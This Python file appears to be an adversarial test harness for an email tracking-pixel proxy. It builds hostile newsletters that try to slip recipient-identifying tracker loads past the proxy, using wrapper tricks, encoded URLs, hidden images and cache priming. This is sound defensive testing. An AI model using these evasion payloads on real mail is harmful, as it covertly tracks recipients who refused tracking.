REVEAL_TEMPLATE = """<!DOCTYPE html>
<html><head><title>News</title></head>
<body>
<table width="600">
<tr><td><h1>Winter collection</h1></td></tr>
<tr><td><p>Hello {T}</p></td></tr>
<tr><td><p>Filler line one with some words in it for the reader.</p></td></tr>
<tr><td><p>{W}</p></td></tr>
<tr><td><p>Filler line two with some words in it for the reader.</p></td></tr>
<tr><td>{LOAD}</td></tr>
<tr><td><p>Filler line three with some words in it for the reader.</p></td></tr>
<tr><td><p>{V}</p></td></tr>
<tr><td><p>Filler line four with some words in it for the reader.</p></td></tr>
<tr><td><p>Filler line five with some words in it for the reader.</p></td></tr>
<tr><td><p>Filler line six with some words in it for the reader.</p></td></tr>
<tr><td><p>Filler line seven with some words in it for the reader.</p></td></tr>
<tr><td><p>Filler line eight with some words in it for the reader.</p></td></tr>
<tr><td><p>Filler line nine with some words in it for the reader.</p></td></tr>
</table>
</body></html>
"""
WRAPPERS = [  # (open, close): what hides the load in the priming copy
    ("<textarea>", "</textarea>"), ("<title>", "</title>"), ("<xmp>", "</xmp>"),
    ("<!--", "-->"), ("<!-- ", " -->"), ("<style>/*", "*/</style>"), ("<script>", "</script>"),
    ("<noembed>", "</noembed>"), ("<noframes>", "</noframes>"), ("<iframe>", "</iframe>"),
    ("<template>", "</template>"), ("<img alt=\"", "\">"), ("<b title='", "'>"),
    ("<!--[if mso]>", "<![endif]-->"), ("<style>.a{content:'", "'}</style>"),
    ("<textarea title=\"</textarea>\">", "</textarea>"), ("<p title=\"", "\">"),
    ("<style>@media print{", "}</style>"), ("<noscript>", "</noscript>"),
    ("<select><option>", "</option></select>"), ("<svg><desc>", "</desc></svg>"),
    ("<plaintext>", ""), ("<![CDATA[", "]]>"), ("<?x ", "?>"), ("<!x ", ">"),
]
LOADS = ['<img src="{U}" width="1" height="1">', '<link rel="stylesheet" href="{U}">',
         '<div style="background:url({U})">x</div>', "<style>p{{background:url({U})}}</style>",
         '<img srcset="{U} 1x" width="1" height="1">',
         '<table background="{U}"><tr><td>x</td></tr></table>']


def reveal_cases(rng: random.Random, start: int) -> list[list[Case]]:
    """The priming copy hides a load inside a wrapper opened on an earlier line (by a
    personal slot); the hostile copy differs in that slot only, so the load is live."""
    out: list[list[Case]] = []
    n = start
    wrap_kinds = [Wrap("single", "8bit", "utf-8"), Wrap("alt", "quoted-printable", "utf-8", 40),
                  Wrap("alt", "base64", "utf-8")]
    for wi, (opener, closer) in enumerate(WRAPPERS):
        for li, load in enumerate(LOADS):
            for mode in ("drop_open", "break_open", "early_close"):
                n += 1
                wrap = wrap_kinds[(wi + li + len(mode)) % len(wrap_kinds)]
                rcpt, prcpt = f"rv{n}@example.net", f"rvp{n}@example.net"
                name = f"rv-{wi}-{li}-{mode}-{n}"
                u = tracker(name, rcpt)
                ld = load.replace("{U}", u).replace("{{", "{").replace("}}", "}")
                prim_slots = {"T": "Ann" + opener, "W": "Ann", "V": closer + "Ann"}
                if mode == "drop_open":
                    host_slots = {**prim_slots, "T": "Bob"}
                elif mode == "break_open":
                    broken = opener.replace("<", "<x", 1) if rng.random() < 0.5 else \
                        opener[:2] + "_" + opener[3:]
                    host_slots = {**prim_slots, "T": "Ann" + broken}
                else:
                    host_slots = {**prim_slots, "W": closer or "</plaintext>"}
                prim_html = REVEAL_TEMPLATE.format(**prim_slots, LOAD=ld).encode()
                host_html = REVEAL_TEMPLATE.format(**host_slots, LOAD=ld).encode()
                prim = wrap.message(prim_html, prcpt, n, "Reveal news")
                host = wrap.message(host_html, rcpt, n + 1, "Reveal news")
                n += 1
                out.append([Case(name, f"reveal:{mode}:{wrap.kind}/{wrap.cte}", [prim], host, rcpt,
                                 [prcpt])])
    rng.shuffle(out)
    return out


def mixed_cases(rng: random.Random, start: int) -> list[list[Case]]:
    """A granted recipient's copy made first (same message, or the same bytes earlier), then
    a refused one's: the granted render, its footer plan and memo must not leak."""
    out: list[list[Case]] = []
    n = start
    wraps = [Wrap("single", "8bit", "utf-8"), Wrap("alt", "quoted-printable", "utf-8", 60),
             Wrap("alt", "base64", "utf-8")]
    payloads = [p for p in MARKUP if "base href" not in p]
    for k, payload in enumerate(payloads):
        for mode in ("multi_granted_first", "multi_refused_first", "known_granted_first"):
            n += 1
            wrap = wraps[(k + len(mode)) % len(wraps)]
            granted, rcpt = f"gr{n}@example.net", f"mx{n}@example.net"
            name = f"mx-{k}-{mode}-{n}"
            slots = {**INNOCENT, "T": payload}
            # the tracker names the refused recipient; a second one the granted one
            html = fill(slots, rcpt, name).replace(
                "<p>Thanks for reading</p>",
                f'<img src="{tracker(name + "-g", granted)}" width="1" height="1">').encode()
            msg = wrap.message(html, "subscribers@shop.example", n, "Mixed news")
            if mode == "known_granted_first":
                case = Case(name, f"mixed:{mode}", [msg], msg, rcpt, [granted])
            else:
                case = Case(name, f"mixed:{mode}", [], msg, rcpt)
                case.multi = ([granted, rcpt] if mode == "multi_granted_first"
                              else [rcpt, granted])
            case.granted = [granted]
            out.append([case])
    rng.shuffle(out)
    return out


VALUE_ONLY = [  # printable, no blank, quote, <, >, bracket, backslash or backtick
    "{U}", "https&#58;//{P}", "&#x68;ttps://{P}", "//{P}", "https:&#47;&#47;{P}", "HTTPS://{P}",
    "https://@{P}", "https://%74.attack10-tracker.example/{Q}", "https://{H}:443/{Q}",
    "{U}&amp;x=1", "https:{P}", "https:/{P}", "http://{P}", "https://{H}./{Q}",
    "https://{H}%2F{Q}", "https://user:pw@{P}", "https&colon;//{P}", "https://{H}&#47;{Q}",
    "&#104;&#116;&#116;&#112;&#115;://{P}", "https://{H}/{Q}#frag",
]


def value_cases(rng: random.Random, start: int, limit: int) -> list[list[Case]]:
    """Copies that differ from the last passed one only inside quoted values of plain tags
    (and inert text): the readers' cached path (webmail.rewash, strays_kept) is taken."""
    out: list[list[Case]] = []
    n = start
    wraps = [Wrap("single", "8bit", "utf-8"), Wrap("alt", "quoted-printable", "utf-8", 76),
             Wrap("alt", "8bit", "utf-8"), Wrap("single", "quoted-printable", "utf-8", 29),
             Wrap("rfc822", "8bit", "utf-8")]
    pairs = [(slot, v) for slot in ("I", "B", "R", "E") for v in VALUE_ONLY]
    total, ci = 0, 0
    while total < limit:
        rng.shuffle(pairs)
        for chunk in range(0, len(pairs), 10):
            if total >= limit:
                break
            wrap = wraps[ci % len(wraps)]
            prcpt, prcpt2 = f"vp{ci}@example.net", f"vq{ci}@example.net"
            prim = wrap.message(fill(INNOCENT, prcpt, "prime").encode(), prcpt, n, "Value news")
            slots2 = {**INNOCENT, "T": "Ann", "A": "tok9z8y7x6", "L": "WinterheroAnn",
                      "V": "Thanks Ann", "E": "tok9z8y7x6"}
            prim2 = wrap.message(fill(slots2, prcpt2, "prime").encode(), prcpt2, n + 1,
                                 "Value news")
            n += 2
            cases: list[Case] = []
            for slot, v in pairs[chunk:chunk + 10]:
                rcpt = f"v{n}@example.net"
                name = f"v{ci}-{slot}-{n}"
                base = dict(slots2)
                base["T"] = rng.choice(["Ann", "Bob", "Carol 2", "Dave", "E.", "F-g"])
                base["A"] = f"tok{n}x"
                base[slot] = v
                html = fill(base, rcpt, name).encode()
                if slot == "E":  # the relative pixel's whole URL is the slot
                    html = html.replace(b'src="p/o.gif?e=', b'src="', 1)
                cases.append(Case(name, f"value:{slot}:{wrap.kind}/{wrap.cte}",
                                  [prim, prim2] if not cases else [],
                                  wrap.message(html, rcpt, n, "Value news"), rcpt,
                                  [prcpt, prcpt2] if not cases else []))
                n += 1
                total += 1
            out.append(cases)
            ci += 1
    return out


HIDDEN_TEMPLATE = REVEAL_TEMPLATE.replace(
    "<tr><td>{LOAD}</td></tr>",
    '<tr><td style="{Y}"><div {ATTR}><img src="{IMG}" width="{WD}" height="{HT}" '
    'style="{IS}" alt="Sale"></div></td></tr>')
HIDING = {  # slot: values that hide the image or make it tiny (the priming value first)
    "Y": ["padding:4px", "display:none", "visibility:hidden", "display:none!important",
          "overflow:hidden;max-height:0", "overflow:hidden;height:0px", "DISPLAY:NONE",
          "display:none;padding:4px", "overflow:hidden;width:0"],
    "ATTR": ['class="box"', "hidden", 'class="box" hidden', 'hidden=""', 'style="display:none"'],
    "WD": ["600", "1", "0", "2", "1px"],
    "HT": ["300", "1", "0", "2"],
    "IS": ["border:0", "display:none", "width:1px", "height:0", "max-height:0",
           "visibility:hidden", "width:1px;height:1px", "border:0;display:none"],
}


def hidden_cases(rng: random.Random, start: int) -> list[list[Case]]:
    """A visible image on the tracker host with an id-like but impersonal URL (kept in
    the priming copy, as a visible content image); the hostile copy hides it or makes it
    tiny in one slot: a fresh analysis calls it a tracker, a reused finding would not."""
    out: list[list[Case]] = []
    n = start
    wraps = [Wrap("single", "8bit", "utf-8"), Wrap("alt", "quoted-printable", "utf-8", 48),
             Wrap("alt", "base64", "utf-8")]
    for slot, values in HIDING.items():
        for v in values[1:]:
            for w in wraps:
                n += 1
                prcpt, rcpt = f"hp{n}@example.net", f"hd{n}@example.net"
                name = f"hid-{slot}-{n}"
                img = f"https://{HOST}/img/s{n}x7k2m9q4/sale.png"
                base = {"T": "Ann", "W": "Ann", "V": "Ann", "IMG": img,
                        **{k: vs[0] for k, vs in HIDING.items()}}
                host = {**base, "T": rng.choice(["Bob", "Ann", "Carol"]), slot: v}
                prim = w.message(HIDDEN_TEMPLATE.format(**base).encode(), prcpt, n, "Sale")
                hostile = w.message(HIDDEN_TEMPLATE.format(**host).encode(), rcpt, n, "Sale")
                out.append([Case(name, f"hidden:{slot}:{w.kind}/{w.cte}", [prim], hostile, rcpt,
                                 [prcpt])])
    rng.shuffle(out)
    return out


def make_campaigns(families: Collection[str], seed: int, limit: int) -> list[list[Case]]:
    """The campaigns of ``families`` for ``seed``, in the order they are sent (``limit``:
    the ``slot`` and ``value`` families' hostile copies at most, each)."""
    rng = random.Random(seed)
    return ((identity_cases(200000) if "identity" in families else [])
            + (header_cases(100000) if "header" in families else [])
            + (reveal_cases(rng, 300000) if "reveal" in families else [])
            + (mixed_cases(rng, 400000) if "mixed" in families else [])
            + (hidden_cases(rng, 600000) if "hidden" in families else [])
            + (value_cases(rng, 500000, limit) if "value" in families else [])
            + (slot_cases(rng, 0, limit) if "slot" in families else []))


# --------------------------------------------------------------------------- shadow
class Shadow:
    """The same sequence through an in-process engine: which cached paths ran."""

    def __init__(self) -> None:
        from unittest import mock

        from beacon_proxy.rewrite import readers, webmail
        from beacon_proxy.rewrite.copies import CopyPolicy, prepare
        from beacon_proxy.rewrite.engine import Engine
        from beacon_proxy.rewrite.rescan import Rescanned, ScanCache
        from beacon_proxy.rewrite.rules import load_rules

        self.engine = Engine(load_rules())
        self.policy = CopyPolicy()
        self._prepare = prepare
        self.counts: Counter[str] = Counter()
        orig_rescan = ScanCache.rescan
        orig_rewash = webmail.rewash
        counts = self.counts
        self.last: Counter[str] = Counter()
        last = self.last

        # Both wrappers pass every argument on as given: a parameter the engine adds
        # later must not break the shadow (an "earlier" view did, until session 26).
        def rescan(cache: ScanCache, *args: Any, **kwargs: Any) -> Rescanned | None:
            r = orig_rescan(cache, *args, **kwargs)
            key = "rescan_hit" if r is not None else "rescan_miss"
            counts[key] += 1
            last[key] += 1
            return r

        def rewash(*args: Any, **kwargs: Any) -> webmail.Washing | None:
            r = orig_rewash(*args, **kwargs)
            key = "rewash_hit" if r is not None else "rewash_miss"
            counts[key] += 1
            last[key] += 1
            return r

        # for as long as the process runs (a patch never stopped)
        mock.patch.object(ScanCache, "rescan", rescan).start()
        webmail.rewash = rewash  # readers calls webmail.rewash
        assert vars(readers)["webmail"] is webmail

    def run(self, data: bytes) -> dict[str, int | str]:
        self.last.clear()
        try:
            prepared = self._prepare(self.engine, data, self.policy)
        except Exception as exc:
            self.counts["shadow_error"] += 1
            return {"error": 1, "exc": str(exc)[:100]}
        if prepared.original.analysis is None:  # it raised, and prepare logged it
            self.counts["shadow_error"] += 1
            return {"error": 1, "exc": "analysis failed (logged)"}
        return dict(self.last)


# --------------------------------------------------------------------------- run
def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--limit", type=int, default=400, help="hostile slot copies at most")
    ap.add_argument("--out", default="/tmp/attack10")
    ap.add_argument("--deadline", type=float, default=2400, help="seconds, hard stop")
    ap.add_argument("--workers", type=int, default=1)
    ap.add_argument("--families", default="identity,header,reveal,slot")
    ap.add_argument("--parallel", type=int, default=1,
                    help="send each campaign's copies (priming and hostile) from this many "
                         "threads at once (races: the pending analysis, rebase, memo)")
    ap.add_argument("--pad", type=int, default=0, help="filler lines in header cases")
    args = ap.parse_args()
    t0 = time.monotonic()
    out = Path(args.out)
    (out / "fail").mkdir(parents=True, exist_ok=True)
    global PAD_LINES
    PAD_LINES = args.pad
    campaigns = make_campaigns(set(args.families.split(",")), args.seed, args.limit)
    shadow = Shadow()
    results = (out / "results.jsonl").open("w")
    tally: Counter[str] = Counter()
    work = Path(tempfile.mkdtemp(prefix="attack10-"))
    up = Upstream().start()
    proxy = Proxy(work, f"[policy]\nanalysis_workers = {args.workers}\n[log]\nlevel = \"info\"\n"
                  "[delivery]\nretry_min = 300\nretry_max = 600\n",
                  upstream=up.port).start()
    print("relay", proxy.smtp_port, "workdir", work, flush=True)
    seen_lines = 0
    outcome_of: dict[tuple[str, str], Event] = {}

    def outcomes() -> None:
        nonlocal seen_lines
        lines = proxy.log_path.read_text().splitlines()
        for line in lines[seen_lines:]:
            try:
                rec = json.loads(line)
            except ValueError:
                continue
            if rec.get("event") in ("delivered", "held", "bounced", "waiting"):
                outcome_of[(rec["queue_id"], rec.get("recipient", ""))] = rec
        seen_lines = len(lines)

    def send(data: bytes, rcpt: str, rcpts: list[str] | None = None) -> Event:
        qid = proxy.send(SENDER, rcpts or [rcpt], data)
        for other in (rcpts or []):
            if other != rcpt:
                def other_done(o: str = other) -> Event | None:
                    outcomes()
                    return outcome_of.get((qid, o))
                wait_for(other_done, 60, "other")

        def done() -> Event | None:
            outcomes()
            return outcome_of.get((qid, rcpt))
        ev = wait_for(done, 60, f"outcome of {qid}")
        assert ev is not None  # wait_for returns a true value
        return ev

    def copy_for(rcpt: str) -> bytes | None:
        got = up.to(rcpt)
        return got[-1].data if got else None

    try:
        # three browsers, each with its own trap: a page's late connections (a retry after
        # the page moved on) are never counted against another kind of page
        with renderer(trap_host=HOST) as refused_browser, renderer(trap_host=HOST) as control, \
                renderer(trap_host=HOST) as priming_browser:
            def loads(browser: Renderer, data: bytes) -> list[str]:
                trap = browser.trap
                assert trap is not None  # renderer(trap_host=HOST)
                before = trap.connections
                urls: list[str] = []
                for part in html_parts(data):
                    urls += browser.load(part.body, part.charset)
                hits = [u for u in urls if HOST in u]
                if trap.connections > before:
                    hits.append(f"tcp://{HOST}/ x{trap.connections - before}")
                return hits

            import threading
            from concurrent.futures import ThreadPoolExecutor
            lock = threading.Lock()
            plain_outcomes = outcomes

            def locked_outcomes() -> None:
                with lock:
                    plain_outcomes()
            if args.parallel > 1:
                outcomes = locked_outcomes  # send() reads it by closure
            for cases in campaigns:
                if time.monotonic() - t0 > args.deadline:
                    print("deadline reached", flush=True)
                    break
                if args.parallel > 1:
                    jobs: list[tuple[bytes, str, list[str] | None]] = [
                        (p, (c.prim_rcpts[i] if c.prim_rcpts else _rcpt_of(p)), None)
                        for c in cases for i, p in enumerate(c.priming)]
                    jobs += [(c.hostile, c.rcpt, c.multi) for c in cases]
                    with ThreadPoolExecutor(args.parallel) as ex:
                        evs = list(ex.map(lambda j: send(*j), jobs))
                    by_rcpt = {j[1]: ev for j, ev in zip(jobs, evs, strict=True)}
                    for case in cases:
                        tally["hostile"] += 1
                        ev = by_rcpt[case.rcpt]
                        rec: Record = {
                            "case": case.name, "family": case.family, "parallel": True,
                            "event": ev["event"], "outcome": ev.get("outcome"),
                            "reason": ev.get("reason") or ev.get("rewrite_problems")}
                        ctrl = loads(control, case.hostile)
                        rec["control"] = bool(ctrl)
                        tally["control_loaded" if ctrl else "control_silent"] += 1
                        tally[f"event_{ev['event']}"] += 1
                        tally[f"outcome_{ev.get('outcome')}"] += 1
                        if ev["event"] == "delivered":
                            copy = copy_for(case.rcpt)
                            hits = loads(refused_browser, copy) if copy else ["NO COPY"]
                            tally["rendered"] += 1
                            rec["loads"] = hits
                            if hits:
                                tally["FAIL_OPEN"] += 1
                                d = out / "fail" / case.name
                                d.mkdir(exist_ok=True)
                                (d / "hostile.eml").write_bytes(case.hostile)
                                if copy:
                                    (d / "delivered.eml").write_bytes(copy)
                                print("FAIL-OPEN (parallel)", case.name, hits, flush=True)
                        results.write(json.dumps(rec) + "\n")
                        results.flush()
                    if tally["hostile"] % 25 < len(cases):
                        print(time.strftime("%H:%M:%S"), dict(tally), flush=True)
                    continue
                for case in cases:
                    for g in case.granted:
                        r = proxy.cli("consent", "set", g, "--beacons", "granted")
                        assert r.returncode == 0, r.stderr
                    rec = {"case": case.name, "family": case.family}
                    for i, p in enumerate(case.priming):
                        prcpt = (case.prim_rcpts[i] if case.prim_rcpts
                                 else _rcpt_of(p))
                        ev = send(p, prcpt)
                        shadow.run(p)
                        copy = copy_for(prcpt)
                        pl = (loads(priming_browser, copy)
                              if copy and ev["event"] == "delivered" else [])
                        rec.setdefault("priming", []).append(
                            {"event": ev["event"], "outcome": ev.get("outcome"), "loads": pl})
                        # the priming copy's own recipient must not be named by a load
                        # (a load naming only the later recipient is no tracker for it
                        # unless tiny: reported apart, as priming_loads)
                        quoted = urllib.parse.quote(prcpt, safe="")
                        if any(quoted in u or prcpt in u for u in pl) and prcpt not in \
                                case.granted:
                            tally["priming_fail_open"] += 1
                        elif pl:
                            tally["priming_loads_other"] += 1
                    rec["shadow"] = shadow.run(case.hostile)
                    ev = send(case.hostile, case.rcpt, case.multi)
                    rec["event"] = ev["event"]
                    rec["outcome"] = ev.get("outcome")
                    rec["reason"] = ev.get("reason") or ev.get("rewrite_problems")
                    ctrl = loads(control, case.hostile)
                    rec["control"] = bool(ctrl)
                    tally["control_loaded" if ctrl else "control_silent"] += 1
                    if ev["event"] == "delivered":
                        copy = copy_for(case.rcpt)
                        assert copy is not None
                        hits = loads(refused_browser, copy)
                        rec["rendered"] = True
                        tally["rendered"] += 1
                        rec["loads"] = hits
                        left = any(HOST.encode() in p.body for p in html_parts(copy))
                        rec["host_left_in_html"] = left
                        if left:
                            tally["host_left_in_html"] += 1
                        if hits:
                            cold = cold_copy(case.hostile, case.rcpt)
                            cold_hits = loads(refused_browser, cold) if cold else []
                            rec["cold_loads"] = cold_hits
                            kind = "FAIL_OPEN" if not cold_hits else "FAIL_OPEN_cold_too"
                            tally[kind] += 1
                            d = out / "fail" / case.name
                            d.mkdir(exist_ok=True)
                            for i, p in enumerate(case.priming):
                                (d / f"priming{i}.eml").write_bytes(p)
                            (d / "hostile.eml").write_bytes(case.hostile)
                            (d / "delivered.eml").write_bytes(copy)
                            print("FAIL-OPEN", case.name, hits, flush=True)
                    tally[f"event_{ev['event']}"] += 1
                    tally[f"outcome_{ev.get('outcome')}"] += 1
                    results.write(json.dumps(rec) + "\n")
                    results.flush()
                    tally["hostile"] += 1
                    if tally["hostile"] % 25 == 0:
                        print(time.strftime("%H:%M:%S"), dict(tally), flush=True)
        metrics = proxy.metrics()
    finally:
        try:
            code = proxy.stop()
        except Exception:
            proxy.kill9()
            code = -9
        up.stop()
    stderr = b""
    errors = [e for e in proxy.events() if e.get("level") in ("error", "critical")
              or e.get("event") in ("attempt_failed", "corrupt")]
    summary = {"tally": dict(tally), "shadow": dict(shadow.counts), "relay_exit": code,
               "relay_errors": errors[:20],
               "analyses": [line for line in metrics.splitlines()
                            if line.startswith(("beacon_proxy_analyses_total",
                                                "beacon_proxy_copies_total"))],
               "seconds": round(time.monotonic() - t0, 1), "workdir": str(work)}
    (out / "summary.json").write_text(json.dumps(summary, indent=1))
    (out / "relay.stderr").write_bytes(stderr or b"")
    print(json.dumps(summary, indent=1))
    return 1 if tally["FAIL_OPEN"] or tally["priming_fail_open"] else 0


def cold_copy(data: bytes, rcpt: str) -> bytes | None:
    """The refused copy a fresh engine makes (no cache warm): is a load the shortcut's?"""
    from beacon_proxy.consent.policy import Policy
    from beacon_proxy.rewrite.copies import CopyPolicy, decide, prepare
    from beacon_proxy.rewrite.engine import Engine
    from beacon_proxy.rewrite.rules import load_rules
    engine = Engine(load_rules())
    return decide(engine, prepare(engine, data, CopyPolicy()), rcpt, Policy.REFUSED,
                  CopyPolicy()).data


def _rcpt_of(data: bytes) -> str:
    import re
    m = re.search(rb"^To: <([^>]+)>", data, re.M)
    assert m
    return m.group(1).decode()


if __name__ == "__main__":
    sys.exit(main())
